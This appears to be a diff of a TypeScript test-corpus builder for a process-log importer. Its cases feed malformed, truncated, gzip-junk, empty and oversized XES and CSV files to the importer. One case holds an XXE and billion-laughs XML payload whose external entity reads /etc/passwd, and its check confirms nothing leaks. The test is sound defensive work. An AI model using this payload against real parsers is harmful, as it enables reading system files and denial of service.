+					nd.replaceAll('JS-1', 'NG-1').replaceAll('ND-', 'NG-').replace('\n', '\nnot json at all\n')
+				)
+			],
+			expect: { outcome: 'either' }
+		});
 	}
 
 	// ---------------- XES / XES.gz
@@ -757,29 +1078,84 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 				file(
 					'xes-ext/log.xes',
 					log(
-						trace('XU-1', ev('申请', '2018-03-05T09:00:00+08:00', '<weird key="w" value="1"/><id key="x" value="00000000-0000-0000-0000-000000000000"/><list key="l"><values><string key="a" value="b"/></values></list>') + ev('办结', '2018-03-06T09:00:00+08:00')),
+						trace(
+							'XU-1',
+							ev(
+								'申请',
+								'2018-03-05T09:00:00+08:00',
+								'<weird key="w" value="1"/><id key="x" value="00000000-0000-0000-0000-000000000000"/><list key="l"><values><string key="a" value="b"/></values></list>'
+							) + ev('办结', '2018-03-06T09:00:00+08:00')
+						),
 						'<extension name="Martian" prefix="mars" uri="http://example.org/mars.xesext"/><foo:bar xmlns:foo="urn:x"/>'
 					)
 				)
 			],
 			expect: { outcome: 'stored', stored: 3, rejected: 0 }
 		});
-		add({ id: 'xes-malformed', about: 'XES with an unclosed element', files: [file('xes-bad/log.xes', okXes.replace('</trace>', ''))], expect: { outcome: 'refused' } });
-		add({ id: 'xes-truncated', about: 'XES cut mid-file', files: [file('xes-trunc/log.xes', okXes.slice(0, Math.floor(okXes.length * 0.55)))], expect: { outcome: 'refused' } });
+		add({
+			id: 'xes-malformed',
+			about: 'XES with an unclosed element',
+			files: [file('xes-bad/log.xes', okXes.replace('</trace>', ''))],
+			expect: { outcome: 'refused' }
+		});
+		add({
+			id: 'xes-truncated',
+			about: 'XES cut mid-file',
+			files: [file('xes-trunc/log.xes', okXes.slice(0, Math.floor(okXes.length * 0.55)))],
+			expect: { outcome: 'refused' }
+		});
 		const gz = gzipSync(Buffer.from(okXes.replaceAll('XS-', 'XG-')));
-		add({ id: 'xes-gz-ok', about: 'XES.gz, same log', files: [file('xesgz-ok/log.xes.gz', gz)], expect: { outcome: 'either' }, verify: [{ sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id = 'XG-1'`, equals: 1 }] });
-		add({ id: 'xes-gz-truncated', about: 'XES.gz cut at 50 % (corrupt gzip)', files: [file('xesgz-trunc/log.xes.gz', gz.subarray(0, Math.floor(gz.length / 2)))], expect: { outcome: 'refused' } });
-		add({ id: 'xes-gz-junk', about: 'gzip magic then junk', files: [file('xesgz-junk/log.xes.gz', Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), Buffer.alloc(500, 7)]))], expect: { outcome: 'refused' } });
-		add({ id: 'xes-wrong-root', about: 'XML whose root is not <log>', files: [file('xes-root/log.xes', '<?xml version="1.0"?><html><body>hi</body></html>')], expect: { outcome: 'refused' } });
-		add({ id: 'xes-empty', about: 'empty .xes', files: [file('xes-empty/log.xes', '')], expect: { outcome: 'refused' } });
-		add({ id: 'xes-no-traces', about: 'XES log with 0 traces', files: [file('xes-zero/log.xes', log(''))], expect: { outcome: 'either' } });
+		add({
+			id: 'xes-gz-ok',
+			about: 'XES.gz, same log',
+			files: [file('xesgz-ok/log.xes.gz', gz)],
+			expect: { outcome: 'either' },
+			verify: [{ sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id = 'XG-1'`, equals: 1 }]
+		});
+		add({
+			id: 'xes-gz-truncated',
+			about: 'XES.gz cut at 50 % (corrupt gzip)',
+			files: [file('xesgz-trunc/log.xes.gz', gz.subarray(0, Math.floor(gz.length / 2)))],
+			expect: { outcome: 'refused' }
+		});
+		add({
+			id: 'xes-gz-junk',
+			about: 'gzip magic then junk',
+			files: [
+				file('xesgz-junk/log.xes.gz', Buffer.concat([Buffer.from([0x1f, 0x8b, 8, 0]), Buffer.alloc(500, 7)]))
+			],
+			expect: { outcome: 'refused' }
+		});
+		add({
+			id: 'xes-wrong-root',
+			about: 'XML whose root is not <log>',
+			files: [file('xes-root/log.xes', '<?xml version="1.0"?><html><body>hi</body></html>')],
+			expect: { outcome: 'refused' }
+		});
+		add({
+			id: 'xes-empty',
+			about: 'empty .xes',
+			files: [file('xes-empty/log.xes', '')],
+			expect: { outcome: 'refused' }
+		});
+		add({
+			id: 'xes-no-traces',
+			about: 'XES log with 0 traces',
+			files: [file('xes-zero/log.xes', log(''))],
+			expect: { outcome: 'either' }
+		});
 		const xxe = `<?xml version="1.0"?><!DOCTYPE log [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><log xmlns="http://www.xes-standard.org/">${trace('XX-1&x;&c;', ev('申请', '2018-03-05T09:00:00+08:00'))}</log>`;
 		add({
 			id: 'xes-xxe',
 			about: 'XES with an external entity and nested entities (XXE / billion laughs)',
 			files: [file('xes-xxe/log.xes', xxe)],
 			expect: { outcome: 'either' },
-			verify: [{ sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id LIKE '%root:%' OR attrs LIKE '%root:%'`, equals: 0 }]
+			verify: [
+				{
+					sql: `SELECT count(*)::INT AS v FROM cases WHERE case_id LIKE '%root:%' OR attrs LIKE '%root:%'`,
+					equals: 0
+				}
+			]
 		});
 	}
 
@@ -807,11 +1183,23 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 		const gd = fs.openSync(g, 'w');
 		for (let i = 0; i < 100; i++) fs.writeSync(gd, chunk);
 		fs.closeSync(gd);
-		add({ id: 'csv-100mb-no-newline', about: '100 MB with no newline (header never ends)', files: [g], expect: { outcome: 'refused' }, stress: true });
-		const rows = [[...CASE_COLS] as (string | number | null)[], CASE_COLS.map((c) => good('XR-1')[c] as string | number | null)];
+		add({
+			id: 'csv-100mb-no-newline',
+			about: '100 MB with no newline (header never ends)',
+			files: [g],
+			expect: { outcome: 'refused' },
+			stress: true
+		});
+		const rows = [
+			[...CASE_COLS] as (string | number | null)[],
+			CASE_COLS.map((c) => good('XR-1')[c] as string | number | null)
+		];
 		const big = Buffer.from(
 			`<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${SHEET_NS}"><sheetData>${sheetRows(rows)}` +
-				Array.from({ length: 1_100_000 }, (_, i) => `<row r="${i + 3}"><c r="A${i + 3}"><v>1</v></c></row>`).join('') +
+				Array.from(
+					{ length: 1_100_000 },
+					(_, i) => `<row r="${i + 3}"><c r="A${i + 3}"><v>1</v></c></row>`
+				).join('') +
 				`</sheetData></worksheet>`
 		);
 		add({
@@ -824,4 +1212,3 @@ export async function buildCorpus(root: string, opts: { stress?: boolean } = {})
 	}
 	return out;
 }
-
